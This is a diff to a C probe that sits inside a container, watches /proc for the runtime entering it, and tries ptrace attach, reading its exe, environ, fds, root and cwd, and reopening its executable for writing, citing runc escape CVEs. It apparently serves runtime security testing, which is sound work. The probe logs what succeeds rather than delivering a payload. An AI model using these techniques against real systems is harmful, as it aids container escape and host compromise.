@@ -2,7 +2,7 @@
  * hunt LOG: a hostile process inside a container that lies in wait for the runtime entering it.
  *
  * Loops over /proc as fast as it can. For each process that was not there at the start it tries, without pause, to
- * attach by ptrace, to read exe, environ and every fd, and to reopen the executable for writing (CVE-2016-9962,
+ * attach by ptrace, to read exe, environ, root, cwd and every fd, and to reopen the executable for writing (CVE-2016-9962,
  * CVE-2019-5736, CVE-2024-21626). Each distinct success is one line "what<TAB>exe<TAB>detail" in LOG; "sighted" lines
  * prove that it saw anything at all. Ends when LOG.stop exists.
  */
@@ -79,6 +79,17 @@ static void try_to_write_exe(int pid)
 	close(fd);
 }
 
+/* A procfs is of one pid namespace, whoever looks at it: the one at /proc here, or one that calls us by our own pid. */
+static int is_our_proc(int fd, const struct stat *st)
+{
+	char self[16] = "";
+	struct stat ours;
+
+	if (stat("/proc", &ours) == 0 && ours.st_dev == st->st_dev)
+		return 1;
+	return readlinkat(fd, "self", self, sizeof self - 1) > 0 && atoi(self) == getpid();
+}
+
 /* A path says nothing about whose tree it is in; the same inode at that path here does. */
 static const char *whose(int fd, char *link)
 {
@@ -88,14 +99,30 @@ static const char *whose(int fd, char *link)
 	if (*link == '/' && fstat(fd, &theirs) == 0 && stat(link, &ours) == 0 && theirs.st_dev == ours.st_dev
 	    && theirs.st_ino == ours.st_ino)
 		return "in our tree";
-	if (fstatfs(fd, &fs) == 0 && fs.f_type == PROC_SUPER_MAGIC)
-		return "detached proc";
+	if (fstatfs(fd, &fs) == 0 && fs.f_type == PROC_SUPER_MAGIC && fstat(fd, &theirs) == 0)
+		return is_our_proc(fd, &theirs) ? "our proc" : "another proc";
 	return link;
+}
+
+/* What stands at a link of the process's directory: said by what it is. */
+static void read_link(int pid, const char *what, const char *name)
+{
+	char path[96], link[4096], exe[4096];
+	int fd;
+
+	snprintf(path, sizeof path, "/proc/%d/%s", pid, name);
+	fd = open(path, O_PATH | O_CLOEXEC);
+	if (fd < 0)
+		return;
+	snprintf(path, sizeof path, "fd/%d", fd);
+	link_of(getpid(), path, link);
+	say(what, link_of(pid, "exe", exe), whose(fd, link));
+	close(fd);
 }
 
 static void read_fds(int pid)
 {
-	char path[96], link[4096], exe[4096];
+	char path[96];
 	struct dirent *entry;
 
 	snprintf(path, sizeof path, "/proc/%d/fd", pid);
@@ -105,14 +132,8 @@ static void read_fds(int pid)
 	while ((entry = readdir(dir))) {
 		if (!isdigit((unsigned char)entry->d_name[0]))
 			continue;
-		snprintf(path, sizeof path, "/proc/%d/fd/%.10s", pid, entry->d_name);
-		int fd = open(path, O_PATH | O_CLOEXEC);
-		if (fd < 0)
-			continue;
-		snprintf(path, sizeof path, "fd/%d", fd);
-		link_of(getpid(), path, link);
-		say("fd", link_of(pid, "exe", exe), whose(fd, link));
-		close(fd);
+		snprintf(path, sizeof path, "fd/%.10s", entry->d_name);
+		read_link(pid, "fd", path);
 	}
 	closedir(dir);
 }
@@ -161,6 +182,8 @@ static void look(int attach)
 		say("sighted", link_of(pid, "exe", exe), "");
 		try_to_write_exe(pid);
 		read_fds(pid);
+		read_link(pid, "root", "root");
+		read_link(pid, "cwd", "cwd");
 		if (attach)
 			try_to_attach(pid);
 	}
